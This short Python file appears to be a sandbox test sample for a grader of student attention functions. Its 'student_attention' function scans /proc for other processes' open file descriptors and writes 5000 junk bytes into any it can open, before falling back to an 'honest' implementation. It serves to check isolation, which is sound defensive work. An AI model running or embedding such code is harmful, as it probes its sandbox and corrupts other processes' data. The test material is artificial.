"""Writes to every open descriptor of every process that it sees.

Expected: passed
"""

import glob
import os


def student_attention(Q, K, V, mask=None):
    own = {str(os.getpid()), "self", "thread-self"}
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        if path.split("/")[2] in own:
            continue
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        os.write(descriptor, b"\xff" * 5000)
        raise RuntimeError(f"{path} can be written to")
    return honest(Q, K, V, mask)
